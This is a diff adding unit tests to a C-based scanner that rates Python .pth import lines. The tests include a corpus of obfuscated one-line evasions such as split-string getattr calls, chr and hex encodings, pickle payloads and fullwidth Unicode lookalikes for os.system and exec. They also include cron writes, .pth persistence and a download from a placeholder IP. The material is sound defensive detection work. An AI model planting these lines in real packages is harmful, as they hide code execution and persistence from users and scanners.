@@ -15,6 +15,7 @@
 #include "scan/scan_allow.h"
 #include "scan/scan_catalog.h"
 #include "scan/scan_hash.h"
+#include "scan/scan_ident.h"
 #include "scan/scan_verdict.h"
 
 static enum scan_verdict judge(const char *code, bool runs, struct buf *reasons)
@@ -65,6 +66,123 @@ static void verdict_table(void **state)
 		assert_int_equal(v, c->expected);
 		assert_non_null(strstr(reasons.data, c->reason));
 	}
+	buf_free(&reasons);
+}
+
+/* A .pth import line, judged as the site stage judges one. */
+static enum scan_verdict judge_line(const char *line, struct buf *reasons)
+{
+	struct scan_verdict_input in = { 0 };
+
+	in.code = line;
+	in.len = strlen(line);
+	in.executes = true;
+	in.runs = true;
+	in.pth_line = true;
+	buf_clear(reasons);
+	return scan_verdict_for(&in, reasons);
+}
+
+/*
+ * One-line evasions an attacker writes into a .pth import line: each hides
+ * its primitive from a plain text match. Every one must be at least high.
+ */
+static const char *const evasions[] = {
+	"import os;getattr(os,'sy'+'stem')('id')",
+	"import runpy;runpy.run_path('/var/lib/app/x.py')",
+	"import pickle;pickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')",
+	"import asyncio;asyncio.get_event_loop().run_until_complete(asyncio.create_subprocess_shell('id'))",
+	"import importlib;importlib.import_module('subprocess').call(['id'])",
+	"import importlib;m=importlib.import_module(chr(111)+chr(115));m.system('id')",
+	"import importlib, sys;importlib.import_module(sys.argv[0])",
+	"import sys;__import__('o'+'s').system('id')",
+	"import sys;sys.path.insert(0,'/dev/shm');import payload",
+	"import ctypes;ctypes.CDLL('/var/lib/x.so')",
+	"import builtins;builtins.exec('print(1)')",
+	"import builtins;builtins.__dict__['ev'+'al']('1')",
+	"import sys;getattr(__builtins__,'ex'+'ec')('print(1)')",
+	"import x;x.run(open('/etc/hostname').read())",
+	"import os;(lambda f:f('id'))(os.system)",
+	"import os;(lambda n:getattr(os,n))('sys'+'tem')('id')",
+	"import os;getattr(os,''.join(map(chr,[115,121,115,116,101,109])))('id')",
+	"import os;getattr(os,chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('id')",
+	"import os;getattr(os,'metsys'[::-1])('id')",
+	"import os;getattr(os,'\\x73\\x79\\x73\\x74\\x65\\x6d')('id')",
+	"import os;vars(os)['system']('id')",
+	"import os;f\"{os.system('id')}\"",
+	"import os as o;o.system('id')",
+	"import os;from os import system as s;s('id')",
+	"import sys;e=eval;e('1')",
+	"import os;os.__dict__['sys'+'tem']('id')",
+	"import sys;().__class__.__base__.__subclasses__()",
+	"import os;os . system ('id')",
+	"import os;exec('import o'+'s')",
+	"import sys;sys.modules['os'].system('id')",
+	"import code;code.InteractiveInterpreter().runsource('import os')",
+	"import os;open('/etc/cron.d/x','w').write('* * * * * root id')",
+	"import webbrowser;webbrowser.open('http://192.0.2.1/')",
+	"import multiprocessing.util as u;u.spawnv_passfds('/bin/sh',['sh','-c','id'],[])",
+	"import shutil;shutil.copy('/var/lib/p','/usr/lib/python3/dist-packages/zz.pth')",
+	"import ftplib;ftplib.FTP('192.0.2.1').retrbinary('RETR x',open('/var/lib/x','wb').write)",
+	"import os;os.execv('/bin/sh',['sh','-c','id'])",
+	"import os;exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73')",
+};
+
+static void evasion_corpus(void **state)
+{
+	struct buf reasons = BUF_INIT;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(evasions) / sizeof(evasions[0]); i++) {
+		enum scan_verdict v = judge_line(evasions[i], &reasons);
+
+		print_message("%s -> %s (%s)\n", evasions[i], scan_verdict_name(v), reasons.data);
+		assert_true(v >= SCAN_HIGH);
+	}
+	buf_free(&reasons);
+}
+
+struct line_case {
+	const char *line;
+	enum scan_verdict expected;
+	const char *absent; /* a phrase the reasons must not contain, or NULL */
+};
+
+/* Plain imports stay low; words inside string literals are not calls. */
+static const struct line_case quiet_lines[] = {
+	{ "import _virtualenv", SCAN_LOW, NULL },
+	{ "import builtins", SCAN_LOW, NULL },
+	{ "import foo, bar.baz as b; import qux", SCAN_LOW, NULL },
+	{ "import foo  # a comment naming os.system", SCAN_LOW, "os.system" },
+	{ "import os; print('os.system and subprocess are not called here')", SCAN_MEDIUM, "subprocess" },
+	{ "import os; os.environ.get('COVERAGE_PROCESS_START') and __import__('coverage').process_startup()",
+	  SCAN_MEDIUM, NULL },
+	{ "import re; re.compile('x')", SCAN_MEDIUM, "compile" },
+};
+
+static void strings_are_not_calls(void **state)
+{
+	struct buf reasons = BUF_INIT;
+	struct scan_verdict_input in = { 0 };
+	static const char module[] = "import logging\nlog = logging.getLogger('socket subprocess exec')\n"
+				     "MESSAGE = \"\"\"run os.system('x') or eval(y)\"\"\"\n";
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(quiet_lines) / sizeof(quiet_lines[0]); i++) {
+		const struct line_case *c = &quiet_lines[i];
+		enum scan_verdict v = judge_line(c->line, &reasons);
+
+		print_message("%s -> %s (%s)\n", c->line, scan_verdict_name(v), reasons.data);
+		assert_int_equal(v, c->expected);
+		if (c->absent != NULL)
+			assert_null(strstr(reasons.data, c->absent));
+	}
+	/* A module (not a .pth line) that only mentions primitives in its strings. */
+	in.code = module;
+	in.len = strlen(module);
+	in.executes = in.runs = true;
+	buf_clear(&reasons);
+	assert_int_equal(scan_verdict_for(&in, &reasons), SCAN_LOW);
 	buf_free(&reasons);
 }
 
@@ -141,6 +259,101 @@ static void bytecode_strings(void **state)
 	buf_free(&out);
 }
 
+/* Every member of the os.spawn*, os.exec* and posix_spawn* families starts a process. */
+static void process_family(void **state)
+{
+	static const char *const lines[] = {
+		"import os;os.posix_spawnp('id',['id'],{})", "import os;os.posix_spawn('/bin/id',['id'],{})",
+		"import os;os.spawnlp(os.P_WAIT,'id','id')", "import os;os.spawnvpe(0,'id',['id'],{})",
+		"import os;os.execvpe('id',['id'],{})", "import os;os.execl('/bin/id','id')",
+		"import os;os.forkpty()", "import os;os.startfile('x')",
+		"import posix;posix.posix_spawnp('id',['id'],{})",
+	};
+	struct buf reasons = BUF_INIT;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
+		enum scan_verdict v = judge(lines[i], true, &reasons);
+
+		if (v < SCAN_HIGH)
+			fail_msg("%s: %s (%s)", lines[i], scan_verdict_name(v), reasons.data);
+	}
+	buf_free(&reasons);
+}
+
+/* Bytecode keeps "os" and "posix_spawnp" apart: they still make os.posix_spawnp. */
+static void bytecode_process_family(void **state)
+{
+	static const char pyc[] = "\xe3\x00\x00" "\xda\x02" "os" "\xda\x0c" "posix_spawnp";
+	struct buf out = BUF_INIT;
+	double entropy;
+	size_t blob;
+
+	(void)state;
+	scan_pyc_strings(pyc, sizeof(pyc) - 1, &out);
+	assert_true(scan_indicators(out.data, out.len, &entropy, &blob) & SCAN_IND_PROCESS);
+	buf_free(&out);
+}
+
+struct ident_case {
+	const char *in;
+	const char *out;
+	bool mapped, unknown;
+};
+
+/* NFKC as CPython applies it to identifiers (PEP 3131), for the letters that spell ASCII names. */
+static void identifiers_nfkc(void **state)
+{
+	static const struct ident_case cases[] = {
+		{ "\xef\xbd\x93\xef\xbd\x99\xef\xbd\x93\xef\xbd\x94\xef\xbd\x85\xef\xbd\x8d", "system", true, false },
+		{ "\xf0\x9d\x90\xac\xf0\x9d\x90\xb2stem", "system", true, false },  /* bold s, bold y */
+		{ "\xf0\x9d\x9a\x8e\xf0\x9d\x9a\xa1" "ec", "exec", true, false },      /* monospace e, x */
+		{ "\xc5\xbfystem", "system", true, false },                              /* long s */
+		{ "\xef\xac\x81le", "file", true, false },                              /* fi ligature */
+		{ "\xe2\x84\x8e" "ex", "hex", true, false },                               /* planck constant h */
+		{ "\xe2\x85\xb0" "d", "id", true, false },                                 /* small roman numeral one */
+		{ "caf\xc3\xa9", "caf\xc3\xa9", false, true },
+		{ "plain_name", "plain_name", false, false },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct buf out = BUF_INIT;
+		bool mapped = false, unknown = false;
+
+		scan_ident_normalise(cases[i].in, strlen(cases[i].in), &out, &mapped, &unknown);
+		assert_string_equal(out.data, cases[i].out);
+		assert_int_equal(mapped, cases[i].mapped);
+		assert_int_equal(unknown, cases[i].unknown);
+		buf_free(&out);
+	}
+}
+
+/* Fullwidth names are the same names to Python: found as primitives, and the spelling raises the rating. */
+static void nfkc_primitives(void **state)
+{
+	static const char *const lines[] = {
+		"import os;os.\xef\xbd\x93\xef\xbd\x99\xef\xbd\x93\xef\xbd\x94\xef\xbd\x85\xef\xbd\x8d('id')",
+		"import os;\xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83('1')",
+		"import \xef\xbd\x8fs;\xef\xbd\x8fs.system('id')",
+	};
+	struct buf reasons = BUF_INIT;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
+		enum scan_verdict v = judge(lines[i], true, &reasons);
+
+		if (v < SCAN_HIGH)
+			fail_msg("%s: %s (%s)", lines[i], scan_verdict_name(v), reasons.data);
+	}
+	/* In a string, a fullwidth word is data, not a name: nothing is normalised there. */
+	assert_int_equal(judge("print('\xef\xbd\x93ystem')", true, &reasons), SCAN_LOW);
+	/* A non-ASCII name outside the table still raises a .pth line: what it names is not known. */
+	assert_int_equal(judge_line("import os;os.syst\xc3\xa9m('id')", &reasons), SCAN_HIGH);
+	assert_non_null(strstr(reasons.data, "a non-ASCII name"));
+	buf_free(&reasons);
+}
+
 static void catalogue(void **state)
 {
 	static const char distutils[] =
@@ -178,6 +391,32 @@ static void catalogue(void **state)
 	assert_true(scan_catalog_is_coverage("import coverage; coverage.process_startup()", 43));
 	assert_false(scan_catalog_is_coverage("import coverage; coverage.process_startup(); x", 46));
 	assert_false(scan_catalog_is_debian_sitecustomize("import os\n", 10));
+}
+
+/* pytest-cov's .pth exec()s a constant string: high by the rules, benign by the catalogue. */
+static void pytest_cov(void **state)
+{
+	static const char line[] =
+		"import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n"
+		"  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n"
+		"  sys.stderr.write(\\n   \"pytest-cov: Failed to setup subprocess coverage. \"\\n"
+		"   \"Environ: {0!r} \"\\n   \"Exception: {1!r}\\\\n\".format(\\n"
+		"    dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\')),\\n"
+		"    exc\\n   )\\n  )\\n')";
+	struct buf reasons = BUF_INIT;
+	char appended[600];
+
+	(void)state;
+	assert_true(scan_catalog_is_pytest_cov(line, strlen(line)));
+	snprintf(appended, sizeof(appended), "%s;import os;os.system('id')", line);
+	assert_false(scan_catalog_is_pytest_cov(appended, strlen(appended)));
+	/* The exec() is real; "subprocess" in its message is not a call. */
+	assert_int_equal(judge_line(line, &reasons), SCAN_HIGH);
+	print_message("%s\n", reasons.data);
+	assert_non_null(strstr(reasons.data, "exec()"));
+	assert_null(strstr(reasons.data, "subprocess"));
+	assert_null(strstr(reasons.data, "os.environ"));
+	buf_free(&reasons);
 }
 
 static void digests(void **state)
@@ -239,9 +478,16 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(verdict_table),
+		cmocka_unit_test(evasion_corpus),
+		cmocka_unit_test(strings_are_not_calls),
 		cmocka_unit_test(place_and_state),
 		cmocka_unit_test(bytecode_strings),
+		cmocka_unit_test(process_family),
+		cmocka_unit_test(bytecode_process_family),
+		cmocka_unit_test(identifiers_nfkc),
+		cmocka_unit_test(nfkc_primitives),
 		cmocka_unit_test(catalogue),
+		cmocka_unit_test(pytest_cov),
 		cmocka_unit_test(digests),
 		cmocka_unit_test(allowlist),
 		cmocka_unit_test(table_escapes),
